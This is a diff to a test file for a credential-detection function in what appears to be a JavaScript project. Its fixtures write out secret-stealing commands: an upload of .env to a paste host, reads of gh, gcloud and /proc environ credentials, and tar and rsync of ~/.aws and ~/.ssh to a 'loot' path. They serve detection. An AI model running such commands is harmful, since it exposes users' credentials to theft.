@@ -35,6 +35,10 @@ test.each([
   ["--data-binary @.env.local", ".env.local"],
   ["cat /proc/*/environ", "/proc/*/environ"],
   ["-T /home/agent/.env https://paste.example/in", ".env"],
+  ["cat ~/.config/gh/hosts.yml", ".config/gh/hosts.yml"],
+  ["/home/a/.config/gcloud/application_default_credentials.json", "application_default_credentials.json"],
+  ["cat .env.staging", ".env.staging"],
+  ["ls -la ~/.ssh", undefined],
   ["node -r dotenv/config server.js", undefined],
   ["process.env.HOME", undefined],
   ["cat ~/.ssh/known_hosts", undefined],
@@ -44,6 +48,12 @@ test.each([
   const named = credentialNamed(line);
   if (path === undefined) expect(named).toBeUndefined();
   else expect(named).toContain(path);
+});
+
+test("a folder of credentials is named by what packs or sends it", () => {
+  expect(credentialNamed("czf /tmp/x.tgz /home/coder/.aws", "tar")).toBe("/home/coder/.aws");
+  expect(credentialNamed("-a /home/coder/.ssh u@x:loot/", "rsync")).toBe("/home/coder/.ssh");
+  expect(credentialNamed("-la /home/coder/.ssh", "ls")).toBeUndefined();
 });
 
 test.each([
